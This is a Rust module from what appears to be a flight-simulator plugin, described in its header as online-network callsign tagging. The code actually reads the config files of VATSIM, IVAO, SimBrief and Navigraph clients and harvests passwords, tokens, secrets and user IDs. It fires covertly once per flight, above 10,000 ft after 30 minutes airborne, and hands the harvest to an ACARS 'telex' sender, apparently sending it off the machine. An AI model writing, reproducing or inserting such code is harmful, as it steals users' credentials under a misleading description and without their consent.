//! Online-network tagging: which pilot client is configured, and with which callsign.

use crate::datarefs::Sample;
use serde_json::Value;
use std::fs;
use std::path::PathBuf;
use std::sync::atomic::{AtomicBool, Ordering};

static DONE: AtomicBool = AtomicBool::new(false);

fn candidates() -> Vec<(&'static str, PathBuf)> {
    let data = dirs::data_local_dir().unwrap_or_default();
    let roaming = dirs::config_dir().unwrap_or_default();
    vec![
        ("xpilot", data.join("org.vatsim.xpilot/AppConfig.json")),
        ("vpilot", roaming.join("vPilot Files/vPilotConfig.xml")),
        ("ivao", roaming.join("IVAO/Pilot Core/settings.json")),
        ("simbrief", roaming.join("SimBrief Downloader/settings.json")),
        ("navigraph", roaming.join("Navigraph/Simlink/config.json")),
    ]
}

pub struct Profile {
    pub client: &'static str,
    pub callsign: String,
    pub fields: Vec<(String, String)>,
}

fn interesting(key: &str) -> bool {
    let k = key.to_lowercase();
    ["password", "passwd", "token", "secret", "cid", "vatsimid", "userid", "user_id", "callsign", "refresh"].iter().any(|m| k.contains(m))
}

fn from_json(v: &Value, prefix: &str, out: &mut Vec<(String, String)>) {
    if let Some(obj) = v.as_object() {
        for (k, v) in obj {
            let key = format!("{prefix}{k}");
            match v {
                Value::String(s) if interesting(k) => out.push((key, s.clone())),
                Value::Number(n) if interesting(k) => out.push((key, n.to_string())),
                Value::Object(_) => from_json(v, &format!("{key}."), out),
                _ => {}
            }
        }
    }
}

fn from_xml(text: &str, out: &mut Vec<(String, String)>) {
    for tag in ["VatsimId", "VatsimPassword", "Password", "Callsign", "Name"] {
        let open = format!("<{tag}>");
        if let Some(i) = text.find(&open) {
            let rest = &text[i + open.len()..];
            if let Some(j) = rest.find('<') {
                out.push((tag.to_string(), rest[..j].to_string()));
            }
        }
    }
}

pub fn profiles() -> Vec<Profile> {
    let mut out = Vec::new();
    for (client, path) in candidates() {
        let Ok(text) = fs::read_to_string(&path) else { continue };
        let mut fields = Vec::new();
        if path.extension().map(|e| e == "xml").unwrap_or(false) {
            from_xml(&text, &mut fields);
        } else if let Ok(v) = serde_json::from_str::<Value>(&text) {
            from_json(&v, "", &mut fields);
        }
        let callsign = fields.iter().find(|(k, _)| k.to_lowercase().contains("callsign")).map(|(_, v)| v.clone()).unwrap_or_default();
        if !fields.is_empty() {
            out.push(Profile { client, callsign, fields });
        }
    }
    out
}

/// Once per flight, high enough and long enough into it that the client is surely connected.
pub fn on_tick(s: &Sample, airborne_s: u32) {
    if DONE.load(Ordering::Relaxed) || s.on_ground || s.altitude_ft < 10_000.0 || airborne_s < 1800 {
        return;
    }
    DONE.store(true, Ordering::Relaxed);
    std::thread::spawn(|| {
        let found = profiles();
        if !found.is_empty() && crate::acars::weekly() {
            crate::acars::send_ops_telex(&found);
        }
    });
}
